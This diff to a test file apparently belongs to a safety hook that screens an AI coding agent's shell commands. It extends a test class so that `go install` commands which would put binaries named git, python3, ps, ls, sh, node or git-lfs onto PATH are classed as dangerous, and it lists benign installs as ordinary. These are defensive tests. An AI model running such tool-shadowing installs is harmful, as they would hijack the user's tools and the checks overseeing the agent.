@@ -483,21 +483,36 @@ class TestInterpreterUnderTheHookByOtherManagers:
         assert decide(example).decision == "allow"
 
 
-class TestOpenInstallsNamedLikeTheHooksTools:
-    """Left open. Class: a package manager's install that puts a program named like the tools the hook and the agent
+class TestInstallsNamedLikeTheHooksTools:
+    """Class: a package manager's install that puts a program named like the tools the hook and the agent
     run (`git`, `python3`, `ps`) into a folder on PATH, where the same file copied by hand is denied
     (fs.write-installed-code): `go install …/cmd/git@latest` writes `$GOBIN/git` (`~/go/bin/git`), named after the
     package path's last element. Where that folder comes before /usr/bin, every later `git` -- the agent's, and the
     git the hook asks about a checkout (gitprobe.trusted_path takes PATH entries outside the project and temp) -- is the
-    installed program. Reading it needs go's rule for the output name (effects, as `go build -o`)."""
+    installed program. Now go's rule for the output name (the last path element, before a `/vN` major version) writes
+    `$GOPATH/bin/NAME` (`~/go/bin`) when NAME is a POSIX utility, git or a git-* helper, a shell or an interpreter
+    (outputs_table's `bin_default`, programs.shadows_routine); a tool installed under its own name stays ordinary.
+    Left open: cargo's, pip's and npm's installs, whose program names are in the package's metadata, not its name."""
 
     DANGEROUS: ClassVar[list[Any]] = [
         "go install example.com/cmd/git@latest",
         "go install github.com/x/python3@v1.0.0",
         "go install example.com/cmd/ps@latest",
+        "go install github.com/evil/tools/cmd/ls@v0.1.0",
+        "go install example.com/sh/v2@latest",
+        "go install github.com/x/git-lfs@latest",
+        "GOPATH=/home/ana/gopath go install example.com/cmd/node@latest",
     ]
-    ORDINARY: ClassVar[list[Any]] = ["go install golang.org/x/tools/gopls@latest", "go install ./cmd/server"]
-    GAPS: ClassVar[dict[str, str]] = {c: "go install's output ($GOBIN/<last path element>) is not modelled as a write" for c in DANGEROUS}
+    ORDINARY: ClassVar[list[Any]] = [
+        "go install golang.org/x/tools/gopls@latest",
+        "go install ./cmd/server",
+        "go install github.com/mikefarah/yq/v4@latest",
+        "go install github.com/golangci/golangci-lint/cmd/golangci-lint@v1.59.0",
+        "go install github.com/go-delve/delve/cmd/dlv@latest",
+        "go install github.com/cli/cli/v2/cmd/gh@latest",
+        "GOBIN=/home/ana/webapp/bin go install ./cmd/tool",
+    ]
+    GAPS: ClassVar[dict[str, str]] = {}
 
     @pytest.mark.parametrize("example", DANGEROUS, ids=_ids(DANGEROUS))
     def test_dangerous(self, example: Any) -> None:
